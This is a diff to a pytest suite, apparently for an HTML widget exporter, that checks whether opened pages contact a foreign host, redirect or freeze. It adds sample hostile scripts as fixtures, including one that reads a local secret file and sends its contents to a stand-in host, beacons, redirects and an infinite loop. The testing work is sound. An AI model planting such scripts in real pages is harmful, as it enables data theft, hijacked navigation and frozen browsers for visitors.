@@ -26,6 +26,22 @@ from .harm import answers, leads, look_around, state, wait_until_readable
 # `clvwidgets export` refuses this one in a sentence: see tests/course.
 EXPORTED = [name for name in cases.ALL if name != "is_nested_without_end"]
 PANELS = [name for name in cases.ALL if PANEL_MIME in cases.bundle(name, "")]
+# Pages that nobody protects, each with harm that comes late.
+HARMS = {
+    "asks_by_a_timer": "<script>setTimeout(() => { new Image().src = 'THERE'; })</script>",
+    "asks_when_clicked": "<script>onclick = () => fetch('THERE')</script>",
+    "sends_away_what_was_answered": (
+        "<script>onclick = async () => { const of = await fetch('secret.txt');"
+        "new Image().src = 'THERE?' + await of.text(); }</script>"
+    ),
+    "runs_a_script_after_an_answer": (
+        "<script>onclick = () => fetch('harm.html').then(() => { __pwned = 1; })</script>"
+    ),
+    "leaves_for_another_address": "<meta http-equiv=refresh content='0; url=THERE'>",
+    "leads_elsewhere": "<script>onclick = () => { document.body.innerHTML += "
+    "'<a href=THERE>x</a>'; }</script>",
+    "stands_still": "<script>onclick = () => { for (;;); }</script>",
+}
 
 
 class _Quiet(SimpleHTTPRequestHandler):
@@ -46,13 +62,17 @@ def site(tmp_path_factory):
 
 
 @pytest.fixture
-def opened(page, foreign_host):
+def opened(tab, foreign_host):
     """Open a page; nothing has happened to anybody, and there is something to read."""
+    page = tab.page
+    asked = []
+    unharmed = []
+
+    def note(request):
+        asked.append(request.url)
 
     def open_(address):
-        foreign_host.heard.clear()
-        asked = []
-        page.on("request", lambda request: asked.append(request.url))
+        page.on("request", note)
         page.goto(address, wait_until="commit")
         assert answers(page), "the tab is frozen"
         readable = wait_until_readable(page, "main")
@@ -68,8 +88,13 @@ def opened(page, foreign_host):
         assert "hers" not in page.title()
         assert leads(page, foreign_host.url) == []
         assert readable, "nothing to read"
+        unharmed.append(address)
 
-    return open_
+    yield open_
+    foreign_host.heard.clear()
+    page.remove_listener("request", note)
+    if not unharmed:
+        tab.close()
 
 
 @pytest.mark.parametrize("case", EXPORTED)
@@ -85,3 +110,15 @@ def test_a_page_of_a_panel_does_nothing(opened, foreign_host, site, case):
     stored = cases.bundle(case, foreign_host.url)[PANEL_MIME]
     (folder / f"{case}.html").write_text(page_with(stored, title="Page", lang="en"))
     opened(f"{address}/{case}.html")
+
+
+@pytest.mark.parametrize("harm", HARMS)
+def test_a_page_that_does_harm_is_found_out(opened, foreign_host, site, monkeypatch, harm):
+    """A look that ends before the harm is done would call everything harmless."""
+    for limit in ("ANSWERS_MS", "READS_MS"):
+        monkeypatch.setattr(f"{answers.__module__}.{limit}", 2000)
+    folder, address = site
+    body = HARMS[harm].replace("THERE", f"{foreign_host.url}/{harm}")
+    (folder / "harm.html").write_text(f"<title>Page</title><main>Words {body}</main>")
+    with pytest.raises(AssertionError):
+        opened(f"{address}/harm.html")
